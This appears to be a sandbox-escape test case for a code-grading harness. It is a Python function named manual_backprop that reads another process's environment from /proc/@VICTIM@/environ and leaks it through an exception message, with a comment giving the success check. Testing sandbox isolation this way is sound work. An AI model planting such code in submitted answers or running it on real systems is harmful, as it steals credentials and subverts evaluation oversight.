# exercise: 01.3
# tries: read the secret in another process's environment
# proof: secrets['environment'] in said
def manual_backprop(a, b, c, f):
    raise RuntimeError(open("/proc/@VICTIM@/environ").read())
